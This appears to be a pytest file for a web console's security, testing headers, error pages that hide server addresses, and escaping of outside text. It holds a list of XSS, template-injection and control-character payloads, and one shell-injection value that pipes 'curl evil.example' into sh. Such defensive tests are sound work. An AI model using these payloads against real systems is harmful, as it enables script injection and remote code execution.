@@ -1,0 +1,371 @@
+"""What goes around every answer, whatever happens behind it, and whatever it shows."""
+
+import json
+import logging
+import re
+import threading
+from html.parser import HTMLParser
+from urllib.parse import quote, urlencode
+
+import pytest
+
+from console.visiting import KEYS, OPERATOR, READER, Place
+from oncebridge.console import reading
+from oncebridge.console.layout import PAGES
+from oncebridge.errors import LedgerUnavailable, PermanentError
+from oncebridge.journal.records import DELIVERIES, WORKERS, HandlerSeen, SeenDelivery, WorkerSeen
+from oncebridge.journal.writer import _encode
+from oncebridge.ledgers.memory import MemoryLedger
+from payloads import CANARIES, personal, queue_conversation, raw
+
+ALL = [f"/{name}" for name in PAGES]
+
+
+# --- headers ---------------------------------------------------------------------------------------------
+
+
+def ways(place):
+    """Ask for pages, files, and everything that can go wrong."""
+    operator, nobody = place.person(OPERATOR), place.person()
+    for path in ALL:
+        yield path, operator.get(path)
+    for path in ("", "/login", "/nothing", "/no/such/page", "/a/b/c/d", "/dead/nokey", "/requests/none", "/about/zz"):
+        yield path, operator.get(path)
+        yield f"{path} without login", nobody.get(path)
+    yield "wrong key", nobody.login("wrong")
+    yield "no token", operator.post("/find")
+    yield "reader", place.person(READER).submit("/handlers/pause", {"handler": "crm"})
+    yield "wrong type", operator.post("/find", Content_Type="text/plain")
+    yield "wrong method", operator.post("/deliveries")
+    for method in ("PUT", "DELETE", "OPTIONS", "HEAD", "PATCH", "TRACE"):
+        yield method, operator._sent(method, "/", b"", {})
+
+
+def test_every_answer_has_its_headers(place):
+    """No script or style from elsewhere, no frame, no guess of a type, nothing kept: on pages, refusals and errors."""
+    for what, answered in ways(place):
+        headers = answered.headers
+        policy = headers.get("content-security-policy", "")
+        assert "default-src 'none'" in policy, (what, answered)
+        assert "frame-ancestors 'none'" in policy, what
+        assert "unsafe" not in policy, what
+        assert not set(policy.split()) & {"*", "data:", "https:", "http:"}, what
+        assert headers["x-frame-options"] == "DENY", what
+        assert headers["x-content-type-options"] == "nosniff", what
+        assert headers["referrer-policy"] == "no-referrer", what
+        assert headers["cache-control"] == "no-store", what
+        assert answered.status < 500, what
+
+
+def test_only_files_without_data_are_kept(place):
+    """Style, script and picture may be kept by a browser, under a name that changes with them; nothing else is."""
+    page = place.person(OPERATOR).page("/")
+    named = set(re.findall(r'(?:href|src)="/console(/[a-z.]+\?[0-9a-f]+)"', page))
+    assert {name.partition("?")[0] for name in named} == {"/style.css", "/script.js", "/icon.svg"}
+    for name in named:
+        answered = place.person().get(name)
+        assert (answered.status, "immutable" in answered.headers["cache-control"]) == (200, True)
+        assert answered.headers["x-content-type-options"] == "nosniff"
+
+
+def test_a_ledger_out_of_reach_is_said_without_its_address(place, monkeypatch, caplog):
+    """Every page that reads says 503, and only the log names the server."""
+    operator = place.person(OPERATOR)
+
+    def fail(*_, **__):
+        raise LedgerUnavailable("redis://:hunter2@db7.internal:6379 does not answer")
+
+    monkeypatch.setattr(type(place.console._notes), "read_notes", fail)
+    monkeypatch.setattr(type(place.console._notes), "read_counts", fail)
+    monkeypatch.setattr(reading.Console, "letter_page", fail)
+    with caplog.at_level(logging.WARNING):
+        for path in ("/", "/deliveries", "/dead", "/handlers", "/requests", "/log"):
+            answered = operator.get(path)
+            assert answered.status == 503, path
+            assert b"out of reach" in answered.body
+            assert b"db7" not in answered.body
+            assert answered.headers["cache-control"] == "no-store"
+    assert "db7.internal" in caplog.text
+
+
+def test_a_ledger_that_cannot_be_opened_is_tried_again(monkeypatch):
+    """The first page says 503 with all headers and without an address, and later ones come when the ledger does."""
+    place = Place(MemoryLedger(), **KEYS)
+    try:
+        with monkeypatch.context() as patched:
+
+            def fail(*_):
+                raise LedgerUnavailable("db7.internal does not answer")
+
+            patched.setattr(MemoryLedger, "open", fail)
+            answered = place.person().get("/")
+        assert answered.status == 503
+        assert b"db7" not in answered.body
+        assert "default-src 'none'" in answered.headers["content-security-policy"]
+        assert place.person().get("/").status == 303
+    finally:
+        place.close()
+
+
+@pytest.mark.parametrize("error", [RuntimeError, ValueError, KeyError, UnicodeEncodeError])
+def test_an_unexpected_error_tells_nothing(place, monkeypatch, caplog, error):
+    """The answer is a page that says so, and neither it nor the log has the error's words, which may quote anything."""
+    operator = place.person(OPERATOR)
+    words = ("utf-8", CANARIES["name"], 0, 1, "no") if error is UnicodeEncodeError else (CANARIES["name"],)
+
+    def fail(*_):
+        raise error(*words)
+
+    monkeypatch.setattr(reading.Console, "overview", fail)
+    with caplog.at_level(logging.DEBUG):
+        answered = operator.get("/")
+    assert answered.status == 500
+    assert CANARIES["name"] not in answered.body.decode() + caplog.text
+    assert error.__name__ in caplog.text
+    assert answered.headers["cache-control"] == "no-store"
+
+
+def test_pages_are_read_a_few_at_a_time(timed, monkeypatch):
+    """Many tabs at once wait for each other, and all are answered."""
+    operator = timed.person(OPERATOR)
+    at_once, most, lock = [0], [0], threading.Lock()
+    read = reading.Console.overview
+
+    def counted(console):
+        with lock:
+            at_once[0] += 1
+            most[0] = max(most[0], at_once[0])
+        try:
+            return read(console)
+        finally:
+            with lock:
+                at_once[0] -= 1
+
+    monkeypatch.setattr(reading.Console, "overview", counted)
+    cookie = {"Cookie": f"oncebridge-session={operator.cookie}", "Host": "127.0.0.1"}
+    started = [timed._client.start("GET", "/console/", **cookie) for _ in range(40)]
+    assert {one.result().status for one in started} == {200}
+    assert most[0] <= 4
+
+
+# --- texts from outside ----------------------------------------------------------------------------------
+
+HOSTILE = {
+    "script": "<script>window.pwned=1</script>",
+    "attribute": "\" onmouseover=window.pwned=1 x='",
+    "single quotes": "' autofocus onfocus=window.pwned=1 '",
+    "markup": "</title></textarea></pre></table></svg><svg onload=window.pwned=1><img src=x onerror=window.pwned=1>",
+    "style": "</style><style>body{display:none}</style>",
+    "comment": "<!--",
+    "entities": "&lt;script&gt;&#x22;",
+    "url": "javascript:window.pwned=1",
+    "terminal": "\x1b]0;pwned\x07\x1b[2J\x9b31m",
+    "direction": "abc\u202egnp.exe\u2066\u200f",
+    "separators": "a\u2028b\u2029c\r\nd\te",
+    "null": "a\x00b",
+    "surrogate": "a\ud800b\udfff",
+    "long": "x" * 100_000,
+    "long words": "wörter " * 15_000,
+    "template": "{{7*7}}${7*7}#{7*7}%s%(a)s{0}",
+}
+#: Elements and attributes that our pages have; anything else came from outside.
+TAGS = frozenset(
+    re.findall(
+        r"\w+",
+        """
+        html head meta title link script body header nav main footer section article div p b i span br wbr h1 h2 h3
+        a svg defs pattern path rect g line text circle polyline desc use style time code pre ul ol li dl dt dd
+        form input label textarea button select option progress details summary figure figcaption
+        table caption thead tbody tr th td
+        """,
+    )
+)
+
+
+class Strict(HTMLParser):
+    """Reads a page, and objects to everything that is not of our making."""
+
+    def __init__(self, page):
+        """Read it."""
+        super().__init__()
+        self.tags, self.scripts, self.wrong, self.texts = [], 0, [], []
+        self.feed(page)
+
+    def handle_starttag(self, tag, attrs):
+        """Look at an element."""
+        if tag not in TAGS:
+            self.wrong.append(tag)
+        self.scripts += tag == "script"
+        for name, value in attrs:
+            if name.startswith("on") or name in ("style", "srcdoc"):
+                self.wrong.append((tag, name))
+            if name in ("href", "src", "action", "formaction") and not (value or "").startswith(("/console", "#")):
+                self.wrong.append((tag, name, value))
+            if name != "value":  # a field holds what will be sent back, as it is
+                self.texts.append(value or "")
+
+    def handle_comment(self, data):
+        """We write none."""
+        self.wrong.append(f"comment {data}")
+
+    def handle_data(self, data):
+        """Keep what is shown."""
+        self.texts.append(data)
+
+
+def judge(page, what):
+    """Object to a page that a text from outside has changed, or filled."""
+    strict = Strict(page)
+    assert strict.wrong == [], what
+    assert strict.scripts == 1, what
+    assert len(page) < 600_000, (what, len(page))
+    shown = "".join(strict.texts)
+    unseen = {letter for letter in shown if not letter.isprintable() and letter not in "\n\xa0"}
+    assert not unseen, (what, unseen)
+
+
+class Spoiled:
+    """A console whose ledger has this text in everything that comes from outside."""
+
+    def __init__(self, text):
+        """Put it everywhere."""
+        self.place = Place(MemoryLedger(), **KEYS)
+        safe = text.encode("utf-8", errors="replace").decode()
+        name = "".join(letter for letter in safe if letter.isprintable())[:200] or "x"
+
+        def refuse(event):
+            raise PermanentError(text)
+
+        with self.place.worker(name, does=refuse) as worker:
+            changes = {"id": text, "detail_type": text}
+            trees = [queue_conversation(event_id=name, conversation=name, **changes) for name in "01"]
+            trees.append(queue_conversation(event_id=text, conversation=text))
+            # Half a surrogate pair can be escaped in JSON, though not written.
+            results = [worker.process(json.dumps(tree).encode()) for tree in trees]
+        self.keys = [result.key for result in results if result.key]
+        console = self.place.console
+        now = console.now_ms
+        console.pauses.pause(text.encode(errors="replace").decode(), safe)
+        console.log(safe, safe, safe, safe)
+        request = console.requests.put("redrive", safe, handler=name, topic=safe[:400], reason=safe[:400], expected=3)
+        self.request = request.id
+        worker = WorkerSeen(
+            name=safe, way_in=safe, version="1", started_ms=now, seen_ms=now, holds=safe, takes_requests=True,
+            receivers_out_of_reach=1, handlers=(HandlerSeen(name=safe, topics=(safe,), kind=safe, promise=safe),),
+        )  # fmt: skip
+        seen = SeenDelivery(
+            at_ms=now, verdict="fresh", column="retrying", reason=safe, topic=safe, key=self.keys[0], envelope_id=safe,
+            original_envelope_id=f"{safe}2", time_ms=-(10**18), retry_in_ms=10**15, handler=safe, worker=safe,
+        )  # fmt: skip
+        console._notes.write_notes(WORKERS, {"hostile": _encode(worker)}, keep_us=10**12)
+        console._notes.write_notes(DELIVERIES, {"99999999999999": _encode(seen)}, keep_us=10**12)
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_a_text_from_outside_is_shown_and_never_obeyed(kind):
+    """In topics, reasons, ids, names, the log: a text is escaped, visible, bounded, and changes nothing of a page."""
+    spoiled = Spoiled(HOSTILE[kind])
+    try:
+        operator = spoiled.place.person(OPERATOR)
+        key = spoiled.keys[0]
+        paths = [*ALL, f"/dead/{key}", f"/event/{','.join(spoiled.keys)}", f"/requests/{spoiled.request}"]
+        for path in paths:
+            judge(operator.page(path), (kind, path))
+        judge(operator.submit(f"/dead/{key}/payload").body.decode(), (kind, "payload"))
+        for form in ({"what": "redrive"}, {"what": "discard"}):
+            answered = operator.submit("/dead/confirm", form)
+            assert answered.status == 200
+            judge(answered.body.decode(), (kind, form))
+        judge(operator.submit("/handlers/confirm", {"handler": _sendable(kind)}).body.decode(), (kind, "pause"))
+    finally:
+        spoiled.place.close()
+
+
+def _sendable(kind):
+    return HOSTILE[kind].encode("utf-8", errors="replace").decode()
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_an_address_is_never_obeyed(timed, kind):
+    """Filters, cursors and names in an address are escaped and bounded, and an odd one is refused in words."""
+    text, operator = _sendable(kind), timed.person(OPERATOR)
+    fields = ("topic", "column", "reason", "handler", "since", "until", "below", "after", "key", "next", "token", "x")
+    asked = [f"{path}?{urlencode({name: text})}" for path in ALL for name in fields]
+    short = quote(text[:5000], safe="")
+    places = ("/dead/", "/event/", "/about/", "/requests/", "/", "/login?next=")
+    asked += [f"{place}{short}" for place in places] + [f"/about/{short}/save", f"/event/{short}/save"]
+    for path in asked:
+        answered = operator.get(path)
+        assert answered.status in (200, 303, 400, 404), (path[:80], answered)
+        assert len(answered.headers.get("location", "")) < 20_000
+        if answered.body:
+            judge(answered.body.decode(), (kind, path[:80]))
+
+
+@pytest.mark.parametrize("kind", HOSTILE)
+def test_what_is_typed_is_never_obeyed(timed, kind):
+    """Whatever is looked for, chosen or paused is an answer."""
+    text, operator = _sendable(kind), timed.person(OPERATOR)
+    forms = [
+        ("/find", {"what": text}),
+        ("/find", {"what": f"{{{text}"}),
+        ("/dead/confirm", {"what": text}),
+        ("/dead/confirm", {"what": "redrive-chosen", "key": text}),
+        ("/dead/confirm", {"what": "discard", "topic": text, "reason": text, "handler": text}),
+        ("/dead/confirm", {"what": "discard", "since": text}),
+        ("/dead/do", {"what": "redrive", "id": text, "key": text}),
+        ("/dead/do", {"what": "discard", "id": "00000000000001-0123456789ab", "expected": text, "reason": text}),
+        ("/handlers/pause", {"handler": text}),
+        ("/handlers/resume", {"handler": text}),
+        ("/handlers/resume", {"handler": text}),
+    ]
+    for path, form in forms:
+        answered = operator.submit(path, form)
+        assert answered.status in (200, 303, 400, 404), (path, form, answered)
+        if answered.body:
+            judge(answered.body.decode(), (kind, path))
+    for path in ("/", "/log", "/requests", "/handlers"):
+        judge(operator.page(path), (kind, path))
+
+
+@pytest.mark.parametrize("path", ["/deliveries", "/dead"])
+def test_the_command_below_a_page_runs_nothing_else(timed, path):
+    """A filter from an address is quoted for the shell that the command is pasted into."""
+    import shlex
+
+    hostile = "x'; curl evil.example | sh; echo '"
+    page = timed.person(READER).page(f"{path}?{urlencode({'topic': hostile, 'reason': '$(id)`id`'})}")
+    from html import unescape
+
+    commands = unescape(re.findall(r'<pre role="group"[^>]*><code>(.*?)</code>', page, re.DOTALL)[-1]).splitlines()
+    words = shlex.split(commands[-1])
+    assert hostile in words
+    assert "$(id)`id`" in words
+    assert words[0] == "oncebridge"
+
+
+# --- what is never shown ---------------------------------------------------------------------------------
+
+
+def test_no_page_has_anything_of_a_payload(place):
+    """Phone numbers, names, transcripts and ids are on no page; payloads on request alone."""
+
+    def refuse(_):
+        raise PermanentError("no such customer")
+
+    with place.worker("crm", does=refuse) as worker:
+        results = worker.process_many([raw(one) for one in personal()])
+    keys = [result.key for result in results]
+    operator = place.person(OPERATOR)
+    found = [operator.submit("/find", {"what": what}) for what in CANARIES.values()]
+    found += [operator.submit("/find", {"what": raw(one).decode()}) for one in personal()]
+    assert {one.status for one in found} == {303}
+    places = [one.headers["location"] for one in found]
+    assert not [place for place in places if any(quote(what) in place or what in place for what in CANARIES.values())]
+    about = places[[*CANARIES].index("conversation")]
+    assert "no such customer" in operator.page(about)
+    for path in [*ALL, *(f"/dead/{key}" for key in keys), *places, *(f"{place}/save" for place in places)]:
+        page = operator.page(path)
+        assert [what for what, text in CANARIES.items() if text in page] == [], path
+    shown = "".join(operator.submit(f"/dead/{key}/payload").body.decode() for key in keys)
+    assert [what for what in ("phone", "name", "attribute", "conversation") if CANARIES[what] not in shown] == []
